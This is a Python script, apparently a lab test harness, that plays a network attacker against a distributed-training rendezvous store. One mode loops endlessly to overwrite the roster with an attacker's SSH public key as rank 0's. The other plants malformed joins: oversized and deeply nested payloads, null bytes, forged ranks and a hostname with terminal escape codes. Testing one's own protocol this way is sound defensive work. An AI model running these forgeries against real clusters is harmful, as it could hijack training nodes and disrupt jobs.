"""What somebody on the network can do who reaches INIT_MASTER_PORT: run as a script on a host of the lab.

python strangers.py forge HOST PORT KEY              rewrite the roster so that KEY is rank 0's, without end
python strangers.py junk HOST PORT                   leave entries that no node of ours would write
"""

from __future__ import annotations

import re
import sys
import time
from dataclasses import replace
from datetime import timedelta
from typing import Any

from platform_launch.rendezvous import protocol
from platform_launch.rendezvous.authentication import Seal
from platform_launch.rendezvous.bare_torch import bare_torch
from platform_launch.rendezvous.fingerprint import Fingerprint
from platform_launch.rendezvous.messages import encode
from platform_launch.rendezvous.protocol import Announcement, Join, NodeHeartbeat


def main() -> None:
    what, host, port, *rest = sys.argv[1:]
    torch = bare_torch()
    store = torch.distributed.TCPStore(
        host, int(port), None, False, timedelta(seconds=30), wait_for_workers=False
    )
    if what == "forge":
        forge(store, rest[0])
    else:
        junk(store)


def forge(store: Any, key: str) -> None:
    """Write over whatever node 0 writes, many times a second, and say each time that it was needed."""
    count = 0
    while True:
        state = store.get(protocol.STATE).decode()
        forged = re.sub(r'"public_key":"ssh-[^"]*"', f'"public_key":"{key}"', state)
        if forged != state:
            forged = re.sub(r'"edition":\d+', lambda found: f'"edition":{int(found[0][10:]) + 1000}', forged)
            store.set(protocol.STATE, forged)
            count += 1
            print(f"forged {count}", flush=True)
        now = store.get(protocol.NOW).decode()
        store.set(protocol.NOW, re.sub(r'"state":\d+', f'"state":{1000 + count}', now))
        time.sleep(0.01)


def junk(store: Any) -> None:
    found = Seal(None, "", "").open(protocol.ANNOUNCEMENT, store.get(protocol.ANNOUNCEMENT), Announcement)
    seal = Seal(None, found.purpose, found.nonce)
    node = Fingerprint(1, found.nnodes, "\x1b[2J\x1b]0;owned\x07stranger", ("10.0.0.9",), "me", None)
    good = encode(Join(node, "session"))
    entries = [
        b"- " + good.replace(b'"node_rank":1', b'"node_rank":[]'),
        b"- " + b"[" * 50_000,
        b"- " + good[:-3] + b"x" * (1 << 20),
        b"- \x00\x01",
        b"- " + encode(Join(replace(node, nnodes=7), "session")),
        b"- " + encode(Join(replace(node, node_rank=-1), "session")),
        b"- " + encode(Join(replace(node, node_rank=0, identity="another"), "session")),
    ]
    for slot, entry in enumerate(entries, found.nnodes + 2):
        store.set(f"join/{slot}", entry.decode())
        key = f"heartbeat/{slot}"
        store.set(key, seal.close(key, NodeHeartbeat("session", 1, 0)).decode())
    for key in ("heartbeat/1", protocol.NOW, protocol.STATE, protocol.MEMBERS):
        store.set(key, "- [[]]")


main()
